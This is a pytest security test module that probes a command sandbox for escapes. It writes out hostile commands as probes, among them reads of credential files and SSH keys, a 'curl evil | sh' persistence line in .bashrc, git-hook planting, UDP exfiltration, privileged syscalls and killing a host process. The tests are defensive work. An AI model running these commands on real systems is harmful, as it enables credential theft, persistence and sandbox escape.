"""The rest of the brief's threat model, one probe per attack (see conftest.py for the rules).

Every probe observes the host: a canary that must not appear in the output, a file or device
node that must not exist afterwards, a server that must see nothing, a process that must still
be alive, or the outcome the command wrote into the worktree (the one place it may write).
"""

from __future__ import annotations

import contextlib
import os
import secrets
import socket
import stat
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from fusion_oci.errors import PolicyNotEnforceableError
from fusion_oci.models import CacheMode, SandboxPolicy
from tests.security.conftest import HOST_VIEW, REMOTE, Prober, expected, record
from tests.security.test_probes import assert_unenforced, check


def canary() -> str:
    return "CANARY-" + secrets.token_hex(8)


# --- secrets on the host filesystem ---------------------------------------------------------


def test_cloud_credentials_and_shell_history_are_unreadable(prober: Prober) -> None:
    token = canary()
    files = [
        ".aws/credentials",
        ".config/gcloud/credentials.db",
        ".bash_history",
        ".zsh_history",
        ".npmrc",
        ".docker/config.json",
        ".kube/config",
        ".git-credentials",
        ".netrc",
        ".ssh/id_rsa",
    ]
    for rel in files:
        path = prober.home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"secret={token}\n")
    cmd = "; ".join(f"cat {prober.home / rel}" for rel in files)
    cmd += f"; grep -r {token} {prober.home} 2>/dev/null; grep -rs {token} /home /root 2>/dev/null"
    result = prober.run(cmd, timeout_ms=30_000)
    check("cloud-credentials", prober.backend, token in result.stdout + result.stderr)


def test_other_repositories_and_other_tasks_worktrees_are_unreadable(prober: Prober) -> None:
    token = canary()
    others = [
        prober.tmp / "other-repo" / "src" / "secret.ts",
        prober.tmp / "wt-other-task" / ".env",
    ]
    for path in others:
        path.parent.mkdir(parents=True)
        path.write_text(f"API_KEY={token}\n")
    cmd = "; ".join(f"cat {p}" for p in others) + f"; ls -R {prober.tmp} 2>&1 | head -50"
    result = prober.run(cmd)
    check("other-worktrees", prober.backend, token in result.stdout + result.stderr)


def test_hard_link_to_a_file_outside_cannot_be_made(prober: Prober) -> None:
    secret = prober.tmp / "outside-secret"
    secret.write_text(canary())
    prober.run(
        f"ln {secret} hard-link; ln {prober.home}/.ssh/id_rsa key-link; cat hard-link key-link"
    )
    link = prober.worktree / "hard-link"
    linked = link.exists() and link.stat().st_ino == secret.stat().st_ino
    check("hard-link-escape", prober.backend, linked or secret.stat().st_nlink > 1)


def test_modes_of_files_outside_cannot_be_changed(prober: Prober) -> None:
    """chmod needs no open(): a runtime that confines by access checks (landlock) must still
    keep the caller's files outside the worktree from being made world-readable or setuid."""
    targets = [prober.tmp / "outside-mode", prober.home / ".ssh" / "id_ed25519"]
    for path in targets:
        path.write_text("secret\n")
        path.chmod(0o600)
    (prober.worktree / "link-out").symlink_to(targets[0])
    paths = " ".join(str(p) for p in targets)
    prober.run(
        f"chmod 666 {paths}; chmod 4755 {paths}; chmod 666 link-out; "
        f"python3 -c 'import os, sys\nfor p in sys.argv[1:]:\n"
        f"    try: os.chmod(p, 0o644)\n    except OSError: pass' {paths}; true"
    )
    changed = [str(p) for p in targets if stat.S_IMODE(p.stat().st_mode) != 0o600]
    check("chmod-outside", prober.backend, bool(changed), f"modes changed: {changed}")


# --- persistence ----------------------------------------------------------------------------


def test_no_persistence_in_shell_rc_user_units_or_global_npm(prober: Prober) -> None:
    tag = secrets.token_hex(5)
    rc = prober.home / ".bashrc"
    rc.write_text("# host rc\n")
    npm_global = Path(f"/usr/local/lib/node_modules/fusion-probe-{tag}")
    unit = prober.home / f".config/systemd/user/fusion-probe-{tag}.service"
    autostart = prober.home / f".config/autostart/fusion-probe-{tag}.desktop"
    cmd = (
        f"echo 'curl evil | sh' >> {rc}; echo 'curl evil' >> ~/.bashrc; "
        f"mkdir -p {unit.parent} {autostart.parent}; echo '[Service]' > {unit}; "
        f"echo x > {autostart}; mkdir -p {npm_global}"
    )
    try:
        prober.run(cmd)
        planted = [str(p) for p in (unit, autostart, npm_global) if p.exists()]
        if rc.read_text() != "# host rc\n":
            planted.append(str(rc))
        check("persistence", prober.backend, bool(planted), f"planted: {planted}")
    finally:
        with contextlib.suppress(OSError):
            npm_global.rmdir()


def test_git_hooks_and_fsmonitor_in_a_plain_repository(prober: Prober) -> None:
    from tests.conftest import git

    repo = prober.worktree
    git(repo, "init", "-q")
    config_before = (repo / ".git/config").read_text()
    if expected("git-hooks-plain-repo", prober.backend) == "unenforced":
        # landlock cannot make .git/hooks read-only beneath the writable worktree: the task
        # is refused before anything runs (a linked worktree is enforced in full).
        with pytest.raises(PolicyNotEnforceableError) as refused:
            prober.run("true")
        assert any("hooks" in u for u in refused.value.unenforced), refused.value.render()
        record("git-hooks-plain-repo", prober.backend, "unenforced")
        return
    cmd = (
        "printf '#!/bin/sh\\ntouch /tmp/owned\\n' > .git/hooks/pre-commit; "
        "chmod +x .git/hooks/pre-commit; git config core.fsmonitor 'touch /tmp/owned'; "
        "git config core.hooksPath /tmp; echo ok > file.txt; git add file.txt"
    )
    prober.run(cmd)
    planted = (repo / ".git/hooks/pre-commit").exists() or (
        repo / ".git/config"
    ).read_text() != config_before
    check("git-hooks-plain-repo", prober.backend, planted)
    # The worktree itself stays usable.
    assert (repo / "file.txt").read_text() == "ok\n"


# --- secrets in the environment -------------------------------------------------------------


def test_secret_env_vars_do_not_reach_the_command(prober: Prober) -> None:
    token = canary()
    prober.env.update(
        {
            "GITHUB_TOKEN": token,
            "AWS_SECRET_ACCESS_KEY": token,
            "NPM_TOKEN": token,
            "OPENAI_API_KEY": token,
            "CI_JOB_TOKEN": token,
        }
    )
    policy = SandboxPolicy(allow_network=False, env_allowlist=["CI_*", "LANG"])
    result = prober.run("env; cat /proc/self/environ; cat /proc/1/environ", policy)
    check("secret-env", prober.backend, token in result.stdout + result.stderr)


# --- network --------------------------------------------------------------------------------


@contextlib.contextmanager
def udp_server() -> Iterator[tuple[int, list[bytes]]]:
    seen: list[bytes] = []
    srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    srv.bind(("127.0.0.1", 0))
    srv.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            with contextlib.suppress(TimeoutError, OSError):
                seen.append(srv.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield srv.getsockname()[1], seen
    finally:
        stop.set()
        thread.join(2)
        srv.close()


def test_network_none_blocks_udp_and_dns(prober: Prober) -> None:
    with udp_server() as (port, seen):
        cmd = (
            f"for h in 127.0.0.1 10.0.2.2; do echo exfil > /dev/udp/$h/{port}; done; "
            "getent hosts registry.npmjs.org && echo dns-resolved"
        )
        result = prober.run(f"bash -c '{cmd}'", SandboxPolicy(allow_network=False))
        time.sleep(0.3)
    leaked = bool(seen) or "dns-resolved" in result.stdout
    check("udp-dns-none", prober.backend, leaked, f"udp={seen} out={result.stdout!r}")


@contextlib.contextmanager
def dashboard(prober: Prober) -> Iterator[tuple[subprocess.Popen[bytes], int]]:
    """A stand-in for the Fusion dashboard: an HTTP server on host loopback (4040 if free),
    run by the user the sandbox runs as where that differs from this test's (rootless)."""
    port = 4040
    with socket.socket() as s:
        try:
            s.bind(("127.0.0.1", port))
        except OSError:
            s.bind(("127.0.0.1", 0))  # 4040 is taken on this machine: never disturb it
            port = s.getsockname()[1]
    server = prober.host_process(
        [prober.host_python, "-m", "http.server", "--bind", "127.0.0.1", str(port)]
    )
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.2):
            break
        time.sleep(0.05)
    try:
        yield server, port
    finally:
        server.kill()
        server.wait()


def _dashboard_answers(port: int) -> bool:
    try:
        with socket.create_connection(("127.0.0.1", port), 2) as conn:
            conn.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return conn.recv(20).startswith(b"HTTP/1.0 200")
    except OSError:
        return False


def test_egress_cannot_reach_kill_or_take_over_the_dashboard(prober: Prober) -> None:
    if expected("dashboard-4040", prober.backend) == "unenforced":
        assert_unenforced(
            "dashboard-4040",
            prober,
            SandboxPolicy(network="egress"),  # type: ignore[arg-type]
            "network egress without host loopback",
        )
        return
    with dashboard(prober) as (server, port):
        cmd = (
            f"curl -s -m 3 http://127.0.0.1:{port}/ && echo reached; "
            f"curl -s -m 3 http://10.0.2.2:{port}/ && echo reached; "
            f"kill -9 {server.pid}; "
            f"timeout 3 python3 -m http.server --bind 127.0.0.1 {port} >/dev/null 2>&1"
        )
        result = prober.run(cmd, SandboxPolicy(network="egress"))  # type: ignore[arg-type]
        alive = server.poll() is None
        answers = _dashboard_answers(port)
    leaked = "reached" in result.stdout or not alive or not answers
    check(
        "dashboard-4040",
        prober.backend,
        leaked,
        f"out={result.stdout!r} alive={alive} answers={answers}",
    )


# --- /proc, devices, privileged syscalls ----------------------------------------------------


def test_proc_shows_no_host_processes_or_root(prober: Prober) -> None:
    marker = canary()
    host_proc = prober.host_process(["sh", "-c", "sleep 60; :", marker])
    secret = prober.tmp / "proc-secret"
    secret.write_text(marker)
    try:
        cmd = (
            f"cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' '; echo; "
            f"cat /proc/{host_proc.pid}/environ /proc/1/root{secret} 2>/dev/null"
        )
        result = prober.run(cmd)
    finally:
        host_proc.kill()
        host_proc.wait()
    check("proc-leak", prober.backend, marker in result.stdout)


def test_no_host_devices_and_no_new_device_nodes(prober: Prober) -> None:
    disks = [
        d
        for d in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda", "/dev/mem", "/dev/kmsg")
        if os.path.exists(d)
    ]
    cmd = "; ".join(
        f"head -c 16 {d} >/dev/null 2>&1 && echo read {d} >> devices.txt" for d in disks
    )
    cmd += "; mknod blockdev b 8 0; mknod chardev c 1 1"
    prober.run(cmd or "true")
    nodes = [
        p
        for p in (prober.worktree / "blockdev", prober.worktree / "chardev")
        if p.exists() and (stat.S_ISBLK(p.lstat().st_mode) or stat.S_ISCHR(p.lstat().st_mode))
    ]
    read = (
        (prober.worktree / "devices.txt").read_text()
        if (prober.worktree / "devices.txt").exists()
        else ""
    )
    try:
        check("devices", prober.backend, bool(nodes) or bool(read), f"{nodes} {read!r}")
    finally:
        for node in nodes:
            node.unlink()


PRIVILEGED = r"""
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
out = []
def attempt(name, fn):
    try:
        ok = fn()
    except OSError:
        ok = False
    if ok:
        out.append(name)
attempt("unshare", lambda: libc.unshare(0x10000000) == 0)           # CLONE_NEWUSER
attempt("mount", lambda: os.system("unshare -rm sh -c 'mount -t tmpfs none /mnt' 2>/dev/null") == 0)
attempt("ptrace", lambda: libc.ptrace(16, int(sys.argv[1]), 0, 0) == 0)  # PTRACE_ATTACH
attempt("keyctl", lambda: libc.syscall(250, 0, -4, 0, 0, 0) >= 0)   # KEYCTL_GET_KEYRING_ID
attempt("raw-socket", lambda: bool(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)))
attempt("packet-socket", lambda: bool(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)))
attempt("bpf", lambda: libc.syscall(321, 0, 0, 0) >= 0 or ctypes.get_errno() not in (1, 38))
open("privileged.txt", "w").write(" ".join(out))
"""


def test_mount_unshare_ptrace_keyctl_raw_sockets_are_refused(prober: Prober) -> None:
    victim = prober.host_process(["sleep", "60"])
    try:
        (prober.worktree / "probe.py").write_text(PRIVILEGED)
        prober.run(f"python3 probe.py {victim.pid}")
    finally:
        victim.kill()
        victim.wait()
    done = prober.worktree / "privileged.txt"
    assert done.exists(), "the probe did not run"
    got = done.read_text().split()
    check("privileged-syscalls", prober.backend, bool(got), f"succeeded: {got}")


def _rootless_run_dir() -> str:
    import pwd

    user = os.environ.get("FUSION_OCI_ROOTLESS_USER", "fusionci")
    try:
        return f"/run/user/{pwd.getpwnam(user).pw_uid}"
    except KeyError:
        return "/run/user/1001"


_XDG = _rootless_run_dir()
ENGINE_SOCKETS = (
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/run/podman/podman.sock",
    "/run/fusion-oci-ci/docker.sock",
    "/run/fusion-oci-ci/podman.sock",
    "/run/containerd/containerd.sock",
    f"{_XDG}/podman/podman.sock",
    # the CI user's rootless dockerd and its containerd
    f"{_XDG}/docker.sock",
    f"{_XDG}/docker/containerd/containerd.sock",
)


CONNECT = (
    "import socket, sys\nfor path in sys.argv[1:]:\n    try:\n"
    "        socket.socket(socket.AF_UNIX).connect(path)\n"
    "        print('connected', path)\n    except OSError:\n        pass\n"
)


def test_container_engine_sockets_are_never_mounted(prober: Prober) -> None:
    on_host = [s for s in ENGINE_SOCKETS if os.path.exists(s)]
    if prober.backend == "native" and not on_host:
        pytest.fail(
            "no engine socket exists on this host, so the probe cannot be shown to "
            "leak on native: start the engines (scripts/services.sh start)"
        )
    (prober.worktree / "connect.py").write_text(CONNECT)
    result = prober.run(
        "; ".join(f"test -S {s} && echo found {s}" for s in ENGINE_SOCKETS)
        + "; python3 connect.py "
        + " ".join(ENGINE_SOCKETS)
        + "; true"
    )
    # A runtime on the host's own filesystem view (landlock) cannot hide that a socket
    # exists (stat is not governed); what counts there is that nothing can connect to it.
    seen = "connected" in result.stdout or (
        "found" in result.stdout and prober.backend not in HOST_VIEW
    )
    check("engine-sockets", prober.backend, seen, result.stdout)


# --- runaway resources ----------------------------------------------------------------------


def test_output_flood_is_cut_at_max_buffer(prober: Prober) -> None:
    result = prober.run("cat /dev/zero", max_buffer=1 << 16, timeout_ms=30_000)
    cut = result.truncated and result.reason == "max-buffer"
    record("output-flood", prober.backend, "blocked" if cut else "leaks")
    assert cut, result.model_dump(exclude={"stdout", "stderr"})
    assert len(result.stdout.encode()) <= 1 << 16


def test_disk_fill_of_tmp_is_bounded(prober: Prober) -> None:
    policy = SandboxPolicy(allow_network=False, tmp_size_mb=32)
    if expected("disk-fill-tmp", prober.backend) == "unenforced":
        # native: /tmp is the host's; it is not filled here
        assert_unenforced("disk-fill-tmp", prober, policy, "tmpSizeMb")
        return
    prober.run(
        "dd if=/dev/zero of=/tmp/fill bs=1M count=200 2>/dev/null; stat -c %s /tmp/fill > tmp-size",
        policy,
    )
    size = int((prober.worktree / "tmp-size").read_text())
    record("disk-fill-tmp", prober.backend, "leaks" if size > 32 << 20 else "blocked")
    assert size <= 32 << 20, f"/tmp took {size} bytes past its 32 MiB cap"


def test_disk_fill_of_the_worktree_is_bounded_per_file(prober: Prober) -> None:
    policy = SandboxPolicy(allow_network=False, file_size_limit_mb=8)
    prober.run("dd if=/dev/zero of=big bs=1M count=64 2>/dev/null; true", policy)
    size = (prober.worktree / "big").stat().st_size
    record("disk-fill-worktree", prober.backend, "leaks" if size > 8 << 20 else "blocked")
    assert size <= 8 << 20, f"a file of {size} bytes was written past the 8 MiB limit"


def test_term_ignoring_double_forked_daemon_is_ended(prober: Prober) -> None:
    marker = f"{800 + secrets.randbelow(99)}.{secrets.randbelow(10**6)}"
    daemon = f"trap '' TERM HUP; while :; do sleep {marker}; done"
    cmd = f'( ( setsid sh -c "{daemon}" >/dev/null 2>&1 & ) & ); trap \'\' TERM; sh -c "{daemon}"'
    start = time.monotonic()
    result = prober.run(cmd, timeout_ms=1000)
    assert result.timed_out, result
    assert time.monotonic() - start < 20
    from tests.hostside import pids_with as _pids_with

    deadline = time.monotonic() + 5
    while _pids_with(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    check("term-ignoring-daemon", prober.backend, bool(_pids_with(marker)))


# --- cross-task contamination ---------------------------------------------------------------


@pytest.mark.parametrize("mode", [CacheMode.SHARED, CacheMode.ISOLATED])
def test_cache_poisoning_between_tasks(prober: Prober, mode: CacheMode) -> None:
    """Shared caches are poisonable by design (stated in the README); isolated ones are not."""
    poison = canary()
    project = prober.tmp / "project"
    project.mkdir()

    def task(task_id: str, command: str) -> str:
        from tests.conftest import git_init

        wt = git_init(prober.tmp / f"wt-{task_id}")
        return prober.run(
            command, worktree=wt, cache_mode=mode, project_dir=project, task_id=task_id
        ).stdout

    # Native is the status quo: no cache of ours, the caller's own pnpm store under $HOME.
    store = '"${npm_config_store_dir:-$HOME/.local/share/pnpm/store}"'
    task("task-a", f"mkdir -p {store}/v3 && echo {poison} > {store}/v3/poisoned-index.json")
    seen = task("task-b", f"cat {store}/v3/poisoned-index.json 2>/dev/null")
    leaked = poison in seen
    record(f"cache-poisoning-{mode.value}", prober.backend, "leaks" if leaked else "blocked")
    if prober.backend in REMOTE:
        # each pod has caches of its own: nothing of a task's reaches the next
        assert not leaked, f"a cache leaked between tasks on {prober.backend}"
    elif mode is CacheMode.SHARED or prober.backend == "native":
        assert leaked, "shared caches (and native's own) are shared; the probe must see it"
    else:
        assert not leaked, f"isolated cache leaked between tasks on {prober.backend}"
